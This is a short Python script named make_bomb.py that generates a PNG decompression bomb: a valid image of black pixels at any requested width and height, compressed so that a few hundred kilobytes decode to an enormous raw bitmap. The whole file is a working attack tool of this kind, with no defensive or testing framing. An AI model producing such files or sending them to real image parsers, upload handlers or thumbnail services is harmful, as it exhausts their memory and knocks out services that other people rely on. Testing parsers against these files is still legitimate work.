#!/usr/bin/python3
"""Writes a PNG of black pixels: a few hundred kilobytes that unfold to what its size says.

make_bomb.py FILE WIDTH HEIGHT
"""
import struct
import sys
import zlib


def chunk(name, content):
    return (struct.pack(">I", len(content)) + name + content +
            struct.pack(">I", zlib.crc32(name + content)))


def main():
    file, width, height = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    packer = zlib.compressobj(9)
    row = bytes(1 + 3 * width)
    packed = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    with open(file, "wb") as png:
        png.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) +
                  chunk(b"IEND", b""))


main()
